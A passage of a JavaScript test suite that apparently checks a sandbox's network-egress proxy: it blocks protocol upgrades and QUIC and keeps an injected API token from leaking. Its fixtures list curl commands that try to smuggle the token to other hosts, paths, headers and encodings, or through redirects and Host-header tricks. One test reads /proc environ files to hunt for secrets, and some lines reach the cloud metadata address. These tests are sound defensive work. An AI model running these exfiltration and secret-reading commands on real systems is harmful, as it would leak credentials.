		`=http,https "${base}/ok/moved?${encodeURIComponent(t)}"; `).join('');
	const rules = () => {
		const p = twoHosts();

		p.egress.rules.push({ host: '*.in.test' });
		return p;
	};

	test('a redirect is a request like any other', async () => {
		zone = lead;
		clear();
		const r = await run(rules(), 'sh', '-c',
			script(`http://api.test:${PLAIN}`) +
			script(`https://api.test:${TLS}`));

		assert.equal(told.length, 2 * targets.length, r.out + r.err);
		assert.ok(told.every((q) => q.url.startsWith('/ok/moved')));
		assert.deepEqual(reached, []);
	});

	test('an upgrade that no rule is about does not happen, nor QUIC',
		async () => {
			zone = lead;
			for (const name of ['websocket', 'h2c', 'TLS/1.0', 'connect-udp']) {
				const got = await attack(['direct', 'connect'].map((door) => ({
					door, to: 'api.test', port: PLAIN,
					raw: 'GET /ok/up HTTP/1.1\r\nHost: api.test:8080\r\n' +
						`Connection: Upgrade, HTTP2-Settings\r\nUpgrade: ${name}` +
						'\r\nHTTP2-Settings: AAMAAABk\r\nSec-WebSocket-Key: ' +
						'dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13' +
						'\r\n\r\n' })), rules());

				assert.ok(!told.some((q) => q.upgraded), name + show(got));
				assert.ok(got.every((a) => !a.got.includes(' 101 ')),
					show(got));
			}
			clear();
			await run(rules(), 'sh', '-c', 'for i in 1 2; do curl -gsS -m 5 ' +
				`--alt-svc f https://api.test:${TLS}/ok/a; done`);
			assert.deepEqual(packets, []);
			assert.ok(told.every((q) => q.host === 'api.test'));
		});

	test('control: outside a redirect is followed, and an upgrade happens',
		async () => {
			clear();
			const base = `http://93.184.216.34:${PLAIN}`;

			await start('sh', ['-c', script(base, targets.slice(0, 2))]);
			assert.ok(reached.some((q) => q.at === '10.1.2.3'));
			assert.ok(reached.some((q) => q.at === '169.254.169.254'));
			const got = await attack([{ door: 'direct', to: '93.184.216.34',
				port: PLAIN, raw: 'GET /ok/up HTTP/1.1\r\nHost: a\r\n' +
					'Connection: Upgrade\r\nUpgrade: websocket\r\n\r\n' }]);

			assert.match(got[0].got, / 101 /);
			assert.ok(told.some((q) => q.upgraded));
		});
});

if (inside) describe('55: a secret, and where it must not get', () => {
	const value = 'tk_live_0123456789abcdefXYZ';
	const readable = [value, Buffer.from(value).toString('base64'),
		Buffer.from(`Bearer ${value}`).toString('base64'),
		Buffer.from(value).toString('hex'), encodeURIComponent(value),
		[...value].reverse().join('')];
	const document = (inject) => {
		const p = twoHosts();

		p.egress.rules.push({ host: 'api.test', port: TLS, proto: 'https',
			methods: ['GET'], paths: ['/ok/tickets/**'], ca,
			addrs: ['93.184.216.34/32'], secrets: ['TICKETS'] });
		p.secrets = { TICKETS: { from: 'file:tickets.key',
			env: 'TICKETS_TOKEN', inject } };
		return p;
	};
	const bearer = { header: 'authorization', format: 'Bearer {}' };
	const holds = (text) => readable.filter((s) => text.includes(s));
	const api = `https://api.test:${TLS}`, open = `https://open.test:${TLS}`;
	const auth = '-H "Authorization: Bearer $TICKETS_TOKEN"';
	// What a request holds but for the place of the secret, if it may have it.
	const elsewhere = (q, inject) => {
		const may = q.host === 'api.test' && q.method === 'GET' &&
			/^\/ok\/tickets\/[^/]+$/.test(q.url);
		const { authorization, ...headers } = q.headers;
		const own = (url) => url?.replace(`key=${value}`, '');

		if (!may)
			return q;
		if (inject.header !== undefined)
			return { ...q, headers };
		return { ...q, url: own(q.url), headers: { ...q.headers,
			':path': own(headers[':path']) } };
	};
	// Each with the placeholder, where the secret does not belong.
	const wrong = [
		`${auth} ${open}/ok/tickets/1`, // another host
		`${auth} http://api.test:${PLAIN}/ok/tickets/1`, // without TLS
		`${auth} http://open.test:${PLAIN}/ok/tickets/1`,
		`${auth} ${api}/ok/other`, // another path
		`${auth} -X POST -d x ${api}/ok/tickets/1`, // another method
		`${auth} ${api}/ok/tickets/../other --path-as-is`,
		`${auth} ${api}/ok/tickets%2f..%2fother`,
		`${api}/ok/tickets/$TICKETS_TOKEN`, // another place
		`"${api}/ok/tickets/1?token=$TICKETS_TOKEN"`,
		`-H "X-Token: $TICKETS_TOKEN" ${api}/ok/tickets/1`,
		`-H "Cookie: t=$TICKETS_TOKEN" ${api}/ok/tickets/1`,
		`-X GET -d "$TICKETS_TOKEN" ${api}/ok/tickets/1`,
		`-H "Authorization: Basic $(printf %s "$TICKETS_TOKEN" | base64)" ` +
			`${api}/ok/tickets/1`, // encoded: it stands for nothing
		`-u "x:$TICKETS_TOKEN" ${open}/ok/tickets/1`,
		`-L --location-trusted ${auth} "${api}/ok/moved?` +
			`${encodeURIComponent(`${open}/ok/tickets/1`)}"`,
		`${auth} -H "Host: open.test:${TLS}" ${api}/ok/tickets/1`,
		`${auth} --connect-to api.test:${TLS}:open.test:${TLS} ` +
			`${api}/ok/tickets/1`,
		`${auth} -x "" --resolve api.test:${TLS}:93.184.216.34 -k ` +
			`${api}/ok/other`,
		`-d "$TICKETS_TOKEN" ${open}/x`, `"${open}/x?$TICKETS_TOKEN"`,
		`--http2 ${auth} ${open}/ok/tickets/1`,
	];

	before(() => {
		fs.mkdirSync(path.join(state, 'secrets'), { recursive: true });
		fs.writeFileSync(path.join(state, 'secrets', 'tickets.key'), value,
			{ mode: 0o600 });
		zone = (name, type) => type === 1 ? [[1, v4('93.184.216.34')]] : [];
	});

	test('it goes to no other host, path, method or place', async () => {
		for (const inject of [bearer, { query: 'key' }]) {
			clear();
			const r = await run(document(inject), 'sh', '-c', wrong.map((w) =>
				`curl -gsS -m 5 ${w};`).join('\n'));

			assert.ok(told.length >= 8, r.out + r.err);
			for (const q of told)
				assert.deepEqual(holds(
					JSON.stringify(elsewhere(q, inject))), [],
					JSON.stringify(q));
			assert.deepEqual(holds(r.out + r.err), []);
		}
	});

	test('the sandbox never has it, not even when the server says it',
		async () => {
			clear();
			const r = await run(document(bearer), 'sh', '-c',
				`curl -gsS -m 5 ${auth} ${api}/ok/tickets/1; env; ` +
				'cat /proc/*/environ /proc/*/cmdline 2>/dev/null; ' +
				'cat /run/paddock/* 2>/dev/null; set');

			// The control: there it goes.
			assert.equal(told[0].headers.authorization, `Bearer ${value}`);
			assert.match(r.out, /ARRIVED/);
			assert.deepEqual(holds(r.out + r.err), []);
		});
});
